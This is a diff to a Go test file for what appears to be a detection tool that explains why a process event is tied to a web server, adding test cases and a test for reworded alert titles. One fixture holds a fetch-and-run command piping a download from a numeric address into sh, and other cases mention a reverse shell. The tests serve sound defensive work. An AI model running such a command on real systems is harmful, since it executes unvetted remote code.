@@ -232,10 +232,29 @@ func TestPlaceReasonNamesWhatMatched(t *testing.T) {
 			"a shell of the web-service account connects out: a reverse shell", "acting for the web server"},
 		{"connect, web account only", PlaceInput{Default: StageNone, Kind: parser.KindConnect, Command: "curl http://h/", WebUser: true, Port: 80},
 			"the web-service account", "acting for the web server"},
+		// a detached job (started under init) is tied to the web server by
+		// account and time only: the reason says so, it names no worker
+		{"detached job's command", PlaceInput{Default: StageNone, Kind: exec, Command: "id", WebServer: true, Adopted: true, WebUser: true},
+			"(inferred: ", "worker"},
+		{"detached job's download", PlaceInput{Default: StageNone, Kind: exec, Command: "curl -fsS http://1.2.3.4:8001/t | sh", WebServer: true, Adopted: true, WebUser: true},
+			"(inferred: ", "a web server's shell runs"},
 	} {
 		_, why := Place(tc.in)
 		if !strings.Contains(why, tc.want) || tc.not != "" && strings.Contains(why, tc.not) {
 			t.Errorf("%s: %q, want %q without %q", tc.name, why, tc.want, tc.not)
+		}
+	}
+}
+
+// TestAccountTitle: a title that names the web server's account is
+// reworded for a match of another account below the server; others stay.
+func TestAccountTitle(t *testing.T) {
+	for in, want := range map[string]string{
+		"System Discovery By Web Server Account": "System Discovery By An Account Reached From The Web Server",
+		"Web Server Exploitation":                "Web Server Exploitation",
+	} {
+		if got := accountTitle(in); got != want {
+			t.Errorf("%q: %q, want %q", in, got, want)
 		}
 	}
 }
